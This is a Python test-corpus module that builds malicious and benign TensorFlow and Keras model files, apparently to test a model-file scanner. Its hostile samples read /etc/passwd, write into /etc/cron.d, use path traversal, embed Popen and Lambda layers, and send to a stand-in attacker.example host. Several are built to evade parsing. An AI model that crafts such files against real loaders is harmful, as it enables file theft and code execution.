"""TensorFlow models whose graphs reach out, in every encoding a loader takes; and ordinary ones beside them."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from tests.corpus.keras_builder import OLD_LAMBDA, layer, old_layer
from tests.corpus.keras_builder import function as keras_function
from tests.corpus.tensorflow_builder import (
    FUNCTION_CALL,
    asset,
    attribute,
    calls,
    const,
    constant_object,
    data,
    entry,
    function,
    graph,
    keras_metadata,
    meta_graph,
    model,
    node,
    number,
    numbers,
    objects,
    saved_model,
    saver,
    signature,
    table,
    text,
    texts,
    user_object,
    varint,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

_READ = (const("path", "/etc/passwd"), node("read", "ReadFile", "path"))
_WRITE = (const("path", "/tmp/weighbridge"), const("contents", "echo"), node("write", "WriteFile", "path", "contents"))
_MATMUL = (node("x", "Placeholder"), numbers("w", bytes(16)), node("y", "MatMul", "x", "w"))
_LAMBDA = json.dumps(old_layer("Lambda", {"function": OLD_LAMBDA, "function_type": "lambda"}))
_TRACED_SAVE = function(
    "__inference__traced_save_1",
    ("file_prefix", "value"),
    const("suffix", "_temp/part"),
    node("StringJoin", "StringJoin", "file_prefix", "suffix:output:0"),
    node("ShardedFilename", "ShardedFilename", "StringJoin:output:0"),
    node("SaveV2", "SaveV2", "ShardedFilename:filename:0", "value"),
    node("prefixes", "Pack", "ShardedFilename:filename:0", "^SaveV2"),
    node("MergeV2Checkpoints", "MergeV2Checkpoints", "prefixes:output:0", "file_prefix"),
)
_TABLE = function(
    "__inference__initializer_1",
    ("table", "filename"),
    node("init", "InitializeTableFromTextFileV2", "table", "filename"),
)


def _one(op: str, *inputs: str, attributes: bytes = b"") -> bytes:
    return model(*_MATMUL, node("op", op, *inputs, attributes=attributes))


def _saves(*prefix: bytes, more: tuple[bytes, ...] = ()) -> bytes:
    return model(*_MATMUL, *prefix, node("save", "SaveV2", "prefix", "x"), more=(saver(), *more))


def _traced_save(*nodes: bytes, argument: str, more: tuple[bytes, ...] = ()) -> bytes:
    call = node("call", FUNCTION_CALL, argument, "x", attributes=calls("__inference__traced_save_1"))
    return model(*_MATMUL, *nodes, call, functions=(_TRACED_SAVE,), more=more)


def _initialises(*nodes: bytes, argument: str, more: tuple[bytes, ...] = ()) -> bytes:
    call = node("call", FUNCTION_CALL, "table", argument, attributes=calls("__inference__initializer_1"))
    return model(*_MATMUL, *nodes, node("table", "HashTableV2"), call, functions=(_TABLE,), more=more)


def _bound_constant() -> bytes:
    bound = objects(constant_object("secret"), bound=(("__inference__initializer_1", (0,)),))
    return model(*_MATMUL, const("secret", "/etc/passwd"), functions=(_TABLE,), more=(bound,))


def _asset_in_a_variable() -> bytes:
    nodes = (
        node("asset_path_initializer", "Placeholder"),
        node("Variable", "VarHandleOp"),
        node("Variable/Assign", "AssignVariableOp", "Variable", "asset_path_initializer"),
        node("Read", "ReadVariableOp", "Variable", "^Variable/Assign"),
    )
    return _initialises(*nodes, argument="Read", more=(asset("asset_path_initializer:0", "vocabulary.txt"),))


def _path_in_a_variable() -> bytes:
    nodes = (
        const("secret", "/etc/passwd"),
        node("Variable", "VarHandleOp"),
        node("Variable/Assign", "AssignVariableOp", "Variable", "secret"),
        node("Read", "ReadVariableOp", "Variable"),
    )
    return _initialises(*nodes, argument="Read")


def _in_function(name: str, *nodes: bytes) -> bytes:
    return model(*_MATMUL, functions=(function(name, ("x",), *nodes),))


def _chain() -> bytes:
    first = function("first", ("p",), node("c", FUNCTION_CALL, "p", attributes=calls("second")))
    second = function("second", ("q",), node("s", "SaveV2", "q", "q"))
    call = node("call", FUNCTION_CALL, "path", attributes=calls("first"))
    return model(*_MATMUL, const("path", "/etc/cron.d/x"), call, functions=(first, second))


def _split_graph() -> bytes:
    return number(1, 1) + data(2, data(1, data(4, "serve")) + data(2, graph(*_MATMUL)) + data(2, graph(*_READ)))


def _unknown_first() -> bytes:
    group = b"\x9b\x06" + number(7, 1) + data(8, b"x") + b"\x9c\x06"
    return group + data(99, bytes(100)) + number(100, 5) + model(*_READ)


def _fields_backwards() -> bytes:
    return data(2, data(2, graph(*_READ)) + data(1, data(4, "serve"))) + number(1, 1)


def _big_node_first() -> bytes:
    read = attribute("padding", data(2, bytes(1 << 17))) + node("read", "ReadFile", "path")
    return saved_model(meta_graph(graph(numbers("w", bytes(1 << 17)), read)))


_TEXT_READ = b"name: 'x' op: 'ReadFile' input: 'p'"
_PIECE = data(1, data(1, "word") + b"\x15" + bytes(4))
_DOCUMENT = b"%PDF-1.4.4.4.4"
"""The signature of a document, which is two unknown fields of a message, and the rest of the second."""


def _unknown_inside(*nodes: bytes) -> bytes:
    """Return a model whose meta graph begins with many fields that nobody knows."""
    return number(1, 1) + data(2, number(99, 1) * 100 + data(2, graph(*nodes)))


def _long_tag(field: int, content: bytes) -> bytes:
    """Return a field whose tag takes five bytes, the last of which has bits that the C++ parser drops."""
    return bytes((field << 3 | 2 | 0x80, 0x80, 0x80, 0x80, 0x20)) + varint(len(content)) + content


def _masked_as_sentencepiece() -> bytes:
    piece = data(1, b"piece") + b"\x15" + bytes(4)
    return data(1, piece) + data(2, meta_graph(graph(*_READ)))


def _two_models() -> bytes:
    return graph(*_MATMUL) + data(2, meta_graph(graph(*_READ)))


def _names_as_text(*lines: str) -> bytes:
    return "\n".join(lines).encode()


SAMPLES: Mapping[str, Callable[[], bytes]] = {
    "tf-read-file.pb": lambda: model(*_MATMUL, *_READ),
    "tf-write-file.pb": lambda: model(*_MATMUL, *_WRITE),
    "tf-read-file-in-function.pb": lambda: _in_function("__inference_f_1", *_READ),
    "tf-read-file-in-loop-body.pb": lambda: model(
        *_MATMUL,
        node("loop", "StatelessWhile", "x", attributes=calls("body", "body") + calls("condition", "cond")),
        functions=(function("condition", ("x",)), function("body", ("x",), *_READ)),
    ),
    "tf-read-file-in-second-meta-graph.pb": lambda: saved_model(meta_graph(graph(*_MATMUL)), meta_graph(graph(*_READ))),
    "tf-read-file-in-frozen-graph.pb": lambda: graph(*_MATMUL, *_READ),
    "tf-read-file-in-library-only.pb": lambda: graph(functions=(function("f", ("x",), *_READ),)),
    "tf-read-file.ckpt.meta": lambda: meta_graph(graph(*_MATMUL, *_READ), saver("save/Const:0")),
    "tf-read-file-in-split-graph.pb": _split_graph,
    "tf-read-file-behind-unknown-fields.pb": _unknown_first,
    "tf-read-file-fields-backwards.pb": _fields_backwards,
    "tf-read-file-behind-big-tensors.pb": _big_node_first,
    "tf-read-file-masked-as-tokenizer.pb": _masked_as_sentencepiece,
    "tf-read-file-behind-fields-inside.pb": lambda: _unknown_inside(*_MATMUL, *_READ),
    "tf-read-file-behind-fields-inside-and-piece.pb": lambda: _PIECE + _unknown_inside(*_MATMUL, *_READ),
    "tf-text-comment-in-field.pbtxt": lambda: b"node # a node\n{ " + _TEXT_READ + b" }",
    "tf-text-far-value.pbtxt": lambda: b"meta_graphs" + b" " * 500 + b"{ graph_def { node { " + _TEXT_READ + b" } } }",
    "tf-text-negative-version.pbtxt": lambda: b"version: -1 node { " + _TEXT_READ + b" }",
    "benign-tf-text-comment-in-field.pbtxt": lambda: (
        b"version # old\n: -1 node # a node\n" + b"{ name: 'x' op: 'NoOp' }"
    ),
    "benign-prose-about-nodes.pbtxt": lambda: b"node # this is a text\n: about nodes",
    "benign-tf-unknown-fields.pb": lambda: _unknown_inside(*_MATMUL),
    "tf-read-file-behind-document.pb": lambda: _DOCUMENT + model(*_MATMUL, *_READ),
    "benign-tf-behind-document.pb": lambda: _DOCUMENT + model(*_MATMUL),
    "benign-document.pdf": lambda: b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n\0\1\2%%EOF\n",
    "tf-read-file-long-tags.pb": lambda: number(1, 1) + _long_tag(2, _long_tag(2, graph(*_MATMUL, *_READ))),
    "benign-tf-long-tags.pb": lambda: number(1, 1) + _long_tag(2, _long_tag(2, graph(*_MATMUL))),
    "benign-tokenizer.model": lambda: (
        _PIECE * 40 + data(2, data(7, "spm") + number(4, 40)) + data(3, data(1, "nmt_nfkc"))
    ),
    "tf-read-file-in-second-model.pb": _two_models,
    "tf-read-file.pbtxt": lambda: _names_as_text(
        'node { name: "path" op: "Const" attr { key: "dtype" value { type: DT_STRING } } }',
        'node { name: "read" op: "ReadFile" input: "path" }',
    ),
    "tf-read-file-odd-spelling.pbtxt": lambda: _names_as_text(
        "# a comment with a brace {",
        "node: <",
        "  name: 'r' # another",
        "  op: \"Re\" 'ad'",
        '    "\\x46ile";',
        "  input: ['a', 'b'],",
        ">",
    ),
    "tf-read-file-in-list.pbtxt": lambda: _names_as_text(
        'meta_graphs [ { graph_def { library { function { signature { name: "f" } node_def { name: "r" op: "ReadFile" } } } } } ]'
    ),
    "tf-read-file-behind-long-comment.pbtxt": lambda: (
        b"#" + b" word" * 20000 + b'\nnode { name: "r" op: "ReadFile" }\n'
    ),
    "tf-read-file.meta.pbtxt": lambda: _names_as_text('graph_def { node { name: "r" op: "ReadFile" } }'),
    "tf-text-breaks-off.pbtxt": lambda: b'node { name: "r" op: "MatMul" ',
    "tf-matching-files.pb": lambda: _one("MatchingFiles", "x"),
    "tf-py-func.pb": lambda: _one("PyFunc", "x", attributes=text("token", "pyfunc_0")),
    "tf-eager-py-func.pb": lambda: _one("EagerPyFunc", "x"),
    "tf-custom-op.pb": lambda: model(*_MATMUL, node("a", "AcmeGate", "x"), node("b", "AcmeGate", "x")),
    "tf-io-op.pb": lambda: _one("IO>FileRead", "x"),
    "tf-debug-identity.pb": lambda: _one(
        "DebugIdentityV3", "x", attributes=texts("debug_urls", "grpc://attacker.example:80")
    ),
    "tf-rpc-client.pb": lambda: _one("RpcClient", "x"),
    "tf-data-service.pb": lambda: _one("DataServiceDatasetV4", "x"),
    "tf-sql-dataset.pb": lambda: _one("SqlDataset", "x", "x", "x"),
    "tf-snapshot-dataset.pb": lambda: _one("SnapshotDatasetV2", "x", "x"),
    "tf-summary-writer.pb": lambda: _one("CreateSummaryFileWriter", "x"),
    "tf-hidden-graph.pb": lambda: _one("DatasetFromGraph", "x"),
    "tf-tensorrt-engine.pb": lambda: _one("TRTEngineOp", "x"),
    "tf-python-callback-in-program.pb": lambda: _one(
        "XlaCallModule", "x", attributes=text("module", "ML\xefR\0xla_python_cpu_callback\0")
    ),
    "tf-print-to-file.pb": lambda: _one("PrintV2", "x", attributes=text("output_stream", "file:///tmp/weighbridge")),
    "tf-candidate-sampler-file.pb": lambda: _one(
        "FixedUnigramCandidateSampler", "x", attributes=text("vocab_file", "/etc/passwd")
    ),
    "tf-proto-descriptor-file.pb": lambda: _one(
        "DecodeProtoV2", "x", attributes=text("descriptor_source", "/etc/passwd")
    ),
    "tf-save-to-constant.pb": lambda: _saves(const("prefix", "/etc/cron.d/weighbridge")),
    "tf-save-to-joined-constants.pb": lambda: _saves(
        const("a", "/etc/"), const("b", "cron.d"), node("prefix", "StringJoin", "a", "b")
    ),
    "tf-save-to-climbing-suffix.pb": lambda: _saves(
        node("saver_filename", "Placeholder"),
        const("up", "/../../x"),
        node("prefix", "StringJoin", "saver_filename", "up"),
    ),
    "tf-save-to-computed.pb": lambda: _saves(const("a", "L2V0Yy9jcm9u"), node("prefix", "DecodeBase64", "a")),
    "tf-save-to-request.pb": lambda: _saves(node("prefix", "Placeholder"), more=(signature("prefix:0"),)),
    "tf-save-by-function-to-constant.pb": lambda: _traced_save(const("where", "/etc/cron.d/x"), argument="where"),
    "tf-save-by-functions-of-functions.pb": _chain,
    "tf-merge-to-constant.pb": lambda: model(
        *_MATMUL, const("to", "/srv/x"), node("m", "MergeV2Checkpoints", "saver_filename", "to"), more=(saver(),)
    ),
    "tf-restore-from-constant.pb": lambda: model(
        *_MATMUL, const("from", "/srv/other/variables"), node("r", "RestoreV2", "from"), more=(saver(),)
    ),
    "tf-cache-to-constant.pb": lambda: model(
        *_MATMUL, const("to", "/tmp/cache"), node("c", "CacheDatasetV2", "x", "to")
    ),
    "tf-table-from-constant.pb": lambda: _initialises(const("secret", "/etc/passwd"), argument="secret"),
    "tf-table-from-variable.pb": _path_in_a_variable,
    "tf-table-from-bound-constant.pb": _bound_constant,
    "tf-asset-climbs.pb": lambda: model(*_MATMUL, more=(asset("a:0", "../../../etc/passwd"),)),
    "tf-asset-absolute.pb": lambda: model(*_MATMUL, more=(asset("a:0", "/etc/passwd"),)),
    "tf-asset-address.pb": lambda: model(*_MATMUL, more=(asset("a:0", "gs://attacker/vocabulary.txt"),)),
    "tf-keras-lambda-keras_metadata.pb": lambda: keras_metadata(("_tf_keras_layer", _LAMBDA)),
    "tf-keras-popen-keras_metadata.pb": lambda: keras_metadata(
        ("_tf_keras_layer", json.dumps(layer("Popen", {"args": "echo"}, "subprocess")))
    ),
    "tf-keras-get-file-keras_metadata.pb": lambda: keras_metadata(
        ("_tf_keras_layer", json.dumps(old_layer("Dense", {"activation": keras_function("keras.utils", "get_file")})))
    ),
    "tf-keras-metadata-no-json-keras_metadata.pb": lambda: keras_metadata(("_tf_keras_layer", "{")),
    "tf-keras-lambda-in-object-graph.pb": lambda: model(
        *_MATMUL, more=(objects(user_object("_tf_keras_layer", _LAMBDA)),)
    ),
    "tf-graph-breaks-off.pb": lambda: model(*_MATMUL, *_READ)[:-40],
    "tf-checkpoint-shape.index": lambda: table({"w": entry(1, (1 << 20, 1 << 20), 0, 16)}),
    "tf-checkpoint-negative.index": lambda: table({"w": entry(1, (4,), -16, 16)}),
    "tf-checkpoint-compressed.index": lambda: table({"w": entry(1, (4,), 0, 16)}, compression=1),
    "tf-checkpoint-state-absolute": lambda: b'model_checkpoint_path: "/srv/other/model.ckpt-1"\n',
    "tf-checkpoint-state-climbs": lambda: b'model_checkpoint_path: "../other/model.ckpt-1"\n',
    "benign-tf-model.pb": lambda: model(*_MATMUL),
    "benign-tf-frozen-graph.pb": lambda: graph(*_MATMUL),
    "benign-tf-saver.pb": lambda: _traced_save(
        node("saver_filename", "Placeholder"), argument="saver_filename", more=(saver(), signature("x:0"))
    ),
    "benign-tf-saver-version-1.ckpt.meta": lambda: meta_graph(
        graph(
            *_MATMUL,
            const("save/filename/input", "model"),
            node("save/filename", "PlaceholderWithDefault", "save/filename/input"),
            node("save/Const", "PlaceholderWithDefault", "save/filename"),
            const("save/suffix", "_temp_0123456789abcdef/part"),
            node("save/StringJoin", "StringJoin", "save/Const", "save/suffix"),
            node("save/ShardedFilename", "ShardedFilename", "save/StringJoin"),
            node("save/SaveV2", "SaveV2", "save/ShardedFilename", "x"),
            node("save/RestoreV2", "RestoreV2", "save/Const"),
        ),
        saver("save/Const:0"),
    ),
    "benign-tf-table-from-asset.pb": lambda: _initialises(
        node("asset", "Placeholder"), argument="asset", more=(asset("asset:0", "vocabulary.txt"),)
    ),
    "benign-tf-table-from-asset-variable.pb": _asset_in_a_variable,
    "benign-tf-cache-in-memory.pb": lambda: model(*_MATMUL, const("to", ""), node("c", "CacheDatasetV2", "x", "to")),
    "benign-tf-program.pb": lambda: _one("XlaCallModule", "x", attributes=text("module", "ML\xefR\0stablehlo.add\0")),
    "benign-tf-print-to-stderr.pb": lambda: _one("PrintV2", "x", attributes=text("output_stream", "stderr")),
    "benign-tf-function-called-by-name.pb": lambda: model(
        *_MATMUL, node("call", "my_function", "x"), functions=(function("my_function", ("x",), node("r", "Relu", "x")),)
    ),
    "benign-tf-custom-op-allowed.pb": lambda: _one("AcmeGate", "x"),
    "benign-tf-graph.pbtxt": lambda: _names_as_text(
        'node {\n  name: "y"\n  op: "MatMul"\n  attr { key: "T" value { type: DT_FLOAT } }\n}',
        "versions { producer: 2147 }",
    ),
    "benign-tf-custom-layer-keras_metadata.pb": lambda: keras_metadata(
        ("_tf_keras_network", json.dumps(old_layer("Model"))), ("_tf_keras_layer", json.dumps(old_layer("Gate")))
    ),
    "benign-tf-checkpoint.index": lambda: table({"a/w": entry(1, (2, 2), 0, 16), "b": entry(7, (), 16, 9)}),
    "benign-tf-checkpoint-state": lambda: (
        b'model_checkpoint_path: "model.ckpt-1"\nall_model_checkpoint_paths: "model.ckpt-1"\n'
    ),
    "benign-tf-debug-info.pb": lambda: data(1, "/srv/train/model.py") + data(5, data(1, "y@f") + data(2, number(1, 1))),
    "benign-tf-fingerprint.pb": lambda: (
        number(1, 1 << 60) + number(2, 2) + number(3, 3) + number(5, 5) + data(6, number(1, 4))
    ),
}
